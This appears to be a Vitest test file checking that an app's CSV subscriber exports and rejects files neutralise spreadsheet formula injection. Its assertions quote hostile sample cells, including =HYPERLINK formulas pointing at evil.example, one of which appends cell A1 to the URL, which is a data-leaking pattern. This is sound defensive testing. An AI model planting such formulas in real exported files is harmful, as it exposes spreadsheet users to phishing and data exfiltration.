import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectRedis, type RedisHandle } from '../src/redis/connection.js';
import { exportList, findSubscriber, importSubscribers } from '../src/domain/audience.js';
import { CsvParser, neutraliseCell } from '../src/domain/csv.js';
import { silentLogger, testConfig } from './helpers/context.js';

/** CSV files Crier reads and writes, against hostile and broken input (files under test/corpus/). */

const corpus = (name: string): string => path.join(path.dirname(fileURLToPath(import.meta.url)), 'corpus', name);

let handle: RedisHandle;
let dataDir: string;
let rejectsDir: string;

beforeAll(async () => {
  const config = testConfig();
  dataDir = config.dataDir;
  handle = await connectRedis(config, silentLogger());
  rejectsDir = path.join(config.dataDir, 'rejects');
});
afterAll(async () => {
  await handle.close();
});

function parse(text: string): string[][] {
  const p = new CsvParser('out.csv');
  return [...p.push(text), ...p.end()].map((r) => r.fields);
}

const FORMULA = /^[=+\-@\t\r]/;

describe('exports are safe to open in a spreadsheet', () => {
  it('neutraliseCell: = + - @ tab CR get an apostrophe; other text is untouched', () => {
    expect(['=1+1', '+44', '-2', '@SUM(1)', '\t=1', '\r=1'].map(neutraliseCell)).toEqual(["'=1+1", "'+44", "'-2", "'@SUM(1)", "'\t=1", "'\r=1"]);
    expect(['Ada', '', 'a=b', ' =1', "'quoted", '2026-11-20T10:00:00Z'].map(neutraliseCell)).toEqual(['Ada', '', 'a=b', ' =1', "'quoted", '2026-11-20T10:00:00Z']);
  });

  it('subscribers export: no cell starts a formula; re-importing the export gives the same values', async () => {
    const r = await importSubscribers(handle.redis, handle.prefix, corpus('formula-injection.csv'), 'hostile', { rejectsDir });
    expect(r).toMatchObject({ imported: 4, rejected: 1 });
    const lines: string[] = [];
    await exportList(handle.redis, handle.prefix, 'hostile', (l) => void lines.push(l));
    const rows = parse(`${lines.join('\n')}\n`);
    expect(rows).toHaveLength(5);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(FORMULA);
    const formula = rows.find((row) => row[0] === 'formula@example.org');
    expect(formula?.slice(1, 4)).toEqual(['\'=HYPERLINK("http://evil.example","Click")', "'+44 Rugby", "'@SUM(1+1)"]);
    expect(rows.some((row) => row[0] === "'-dash@example.org")).toBe(true);

    // The apostrophe is taken off again on import: the round trip changes nothing.
    const again = path.join(dataDir, 'hostile-export.csv');
    writeFileSync(again, `${lines.join('\n')}\n`);
    expect(await importSubscribers(handle.redis, handle.prefix, again, 'hostile-again', { rejectsDir })).toMatchObject({ imported: 0, updated: 4, rejected: 0 });
    expect(await findSubscriber(handle.redis, handle.prefix, 'formula@example.org')).toMatchObject({
      name: '=HYPERLINK("http://evil.example","Click")',
      area: '+44 Rugby',
      topics: ['@SUM(1+1)'],
    });
    expect(await findSubscriber(handle.redis, handle.prefix, '-dash@example.org')).toMatchObject({ name: 'Dash' });
    expect(await findSubscriber(handle.redis, handle.prefix, 'minus@example.org')).toMatchObject({ name: '-2+3', topics: ['-fraud'] });
  });

  it('rejects file: the raw line of a rejected row cannot start a formula', async () => {
    const r = await importSubscribers(handle.redis, handle.prefix, corpus('formula-injection.csv'), 'hostile-rejects', { rejectsDir });
    const rows = parse(readFileSync(r.rejectsFile as string, 'utf8'));
    expect(rows[1]?.slice(0, 2)).toEqual(['2', 'bad email']);
    expect(rows[1]?.[2]).toBe('\'=HYPERLINK("http://evil.example/?"&A1;"Click"),x,Rugby,');
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
  });
});
